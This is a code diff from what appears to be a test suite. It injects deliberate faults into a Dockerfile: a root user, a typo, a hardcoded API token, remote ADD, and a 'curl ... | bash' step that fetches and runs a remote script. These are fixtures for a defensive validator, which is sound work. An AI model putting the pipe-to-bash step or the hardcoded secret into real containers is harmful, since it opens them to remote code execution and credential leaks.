@@ -157,10 +157,10 @@ CONTAINERS = (
     Fault("image-python", DOCKER, "2.60.0-py311-cpu", "2.60.0-cpu"),
     Fault("ray-below-floor", DOCKER, "2.60.0-py311-cu128", "2.51.0-py311-cu128"),
     Fault("root-container", DOCKER, "USER 1000:100", "USER root"),
-    Fault("docker-instruction", DOCKER, "WORKDIR /home/ray\n", "WORKDRI /home/ray\n"),
-    Fault("secret-value", DOCKER, "WORKDIR /home/ray\n", "ENV API_TOKEN=abcdef123456\n"),
-    Fault("docker-add", DOCKER, "WORKDIR /home/ray\n", "ADD https://example.com/x.tar.gz /x\n"),
-    Fault("docker-pipe", DOCKER, "RUN pip", "RUN curl -s https://example.com/i.sh | bash && pip"),
+    Fault("docker-instruction", DOCKER, 'CMD ["raypipe', 'WORKDRI /home/ray\nCMD ["raypipe'),
+    Fault("secret-value", DOCKER, 'CMD ["raypipe', 'ENV API_TOKEN=abcdef123456\nCMD ["raypipe'),
+    Fault("docker-add", DOCKER, 'CMD ["raypipe', 'ADD https://example.com/x.tar.gz /x\nCMD ["raypipe'),
+    Fault("docker-pipe", DOCKER, "RUN cp", "RUN curl -s https://example.com/i.sh | bash && cp"),
     Fault("no-probe", DOCKER, "HEALTHCHECK --interval", "LABEL x=y #", before="FROM"),
 )  # fmt: skip
 
